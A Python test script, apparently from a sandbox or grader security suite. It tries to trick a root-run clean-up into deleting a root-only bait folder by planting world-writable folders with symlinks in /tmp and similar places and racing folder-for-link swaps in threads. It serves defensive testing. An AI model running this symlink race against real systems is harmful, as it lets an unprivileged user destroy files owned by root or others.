"""Abuse (issue 11, class 1): get root to delete files it does not own.

A clean-up that walks shared folders as root, by path, can be steered: this plants world-writable
folders holding links to a root-only folder (the bait), and keeps swapping a folder for a link while
the grading runs. It also tries to delete the bait outright. Nothing it plants is walked by root:
its /tmp is its own, and without private mounts its leftovers are removed as its own user.
"""
import os
import threading

BAIT = "@MARKERS@/bait"
LITTER = "@LITTER@"


def _plant(folder):
    base = os.path.join(folder, f"{LITTER}-swap")
    try:
        os.mkdir(base)
        os.chmod(base, 0o777)
        os.mkdir(os.path.join(base, "victim"))
        os.symlink(BAIT, os.path.join(base, "link"))
    except OSError as error:
        print(f"could not plant in {folder}: {type(error).__name__}")
        return None
    return base


def _swap(base):
    victim = os.path.join(base, "victim")
    for _ in range(20000):
        try:
            os.rename(victim, victim + "-dir")
            os.symlink(BAIT, victim)
            os.unlink(victim)
            os.rename(victim + "-dir", victim)
        except OSError:
            return


def run():
    for remove, target in ((os.unlink, os.path.join(BAIT, "keep.txt")), (os.rmdir, BAIT)):
        try:
            remove(target)
            print(f"deleted {target}")
        except OSError as error:
            print(f"could not delete {target}: {type(error).__name__}")
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        base = _plant(folder)
        if base:
            threading.Thread(target=_swap, args=(base,), daemon=True).start()
